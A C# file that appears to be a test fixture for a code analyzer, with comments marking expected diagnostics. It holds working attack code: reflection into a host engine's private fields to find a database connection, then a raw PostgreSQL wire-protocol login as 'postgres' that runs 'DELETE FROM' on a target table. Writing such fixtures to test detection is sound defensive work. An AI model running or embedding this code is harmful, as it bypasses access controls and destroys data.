// Attack: run SQL as the host's database user. First through the engine object (look for a data source or a
// connection string in its object graph), then straight at the database's port with the PostgreSQL wire protocol
// (trust authentication on loopback is common). The entity name is "host:port/database/table" of the target.
using System.Net.Sockets;
using System.Reflection;
using System.Text; using Stream = System.IO.Stream; using IOException = System.IO.IOException;

List<OrchestratorTune> GetFlowOrchestration(OrchestratorProps param)
{
    var engine = param.Entity[0].SourceDBConn;
    var found = new List<string>();
    foreach (var field in engine.GetType().GetFields(BindingFlags.Instance | BindingFlags.NonPublic | BindingFlags.Public)) // expect: EF1014
    {
        var value = field.GetValue(engine);
        found.Add(field.Name + ":" + (value?.GetType().FullName ?? "null"));
        if (value?.GetType().FullName?.Contains("Npgsql") == true)
        {
            throw new InvalidOperationException("FOUND A DATA SOURCE: " + value.GetType().FullName);
        }
    }

    var target = param.Entity[0].Name.Split('/');
    var hostPort = target[0].Split(':');
    using var client = new TcpClient(); // expect: EF1012
    client.Connect(hostPort[0], int.Parse(hostPort[1]));
    var stream = client.GetStream();
    Send(stream, 0, Startup(target[1]));
    Drain(stream);
    Send(stream, (byte)'Q', Encoding.UTF8.GetBytes($"DELETE FROM {target[2]}\0"));
    Drain(stream);
    throw new InvalidOperationException("SQL RAN; engine fields: " + string.Join(", ", found));
}

byte[] Startup(string database)
{
    var body = new List<byte> { 0, 3, 0, 0 };
    foreach (var s in new[] { "user", "postgres", "database", database, "" })
    {
        body.AddRange(Encoding.UTF8.GetBytes(s));
        body.Add(0);
    }

    return body.ToArray();
}

void Send(Stream stream, byte type, byte[] body)
{
    var frame = new List<byte>();
    if (type != 0) frame.Add(type);
    var length = body.Length + 4;
    frame.AddRange(new[] { (byte)(length >> 24), (byte)(length >> 16), (byte)(length >> 8), (byte)length });
    frame.AddRange(body);
    stream.Write(frame.ToArray(), 0, frame.Count);
}

void Drain(Stream stream)
{
    // Read messages until ReadyForQuery ('Z').
    while (true)
    {
        var header = new byte[5];
        for (var read = 0; read < 5;) { var n = stream.Read(header, read, 5 - read); if (n == 0) throw new IOException("closed"); read += n; }
        var length = (header[1] << 24) | (header[2] << 16) | (header[3] << 8) | header[4];
        var body = new byte[length - 4];
        for (var read = 0; read < body.Length;) { var n = stream.Read(body, read, body.Length - read); if (n == 0) throw new IOException("closed"); read += n; }
        if (header[0] == (byte)'Z') return;
    }
}
